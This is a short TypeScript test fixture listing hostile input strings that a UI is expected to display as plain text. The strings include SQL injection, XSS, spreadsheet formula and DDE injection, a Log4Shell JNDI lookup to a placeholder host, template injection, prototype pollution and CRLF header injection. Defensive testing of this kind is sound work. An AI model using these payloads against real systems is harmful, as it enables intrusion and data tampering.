/**
 * Hostile input: SQL, scripts, spreadsheet formulas, characters that reverse the text direction. The contract
 * accepts all of it, and every screen must show it as plain text.
 */
export const hostileTexts = [
  `'; drop table orders; --`,
  `<script>document.title='owned'</script>`,
  `"><img src=x onerror=alert(1)>`,
  `=HYPERLINK("http://203.0.113.9/","win")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\u202egnp.tnemyap\u202c`,
  `\${jndi:ldap://203.0.113.9/a}`,
  `{{constructor.constructor('return 1')()}}`,
  `__proto__`,
  `line one\r\nset-cookie: owned=1`,
  `\ud83d\ude00\u200d\u200b\ufeff`,
] as const;
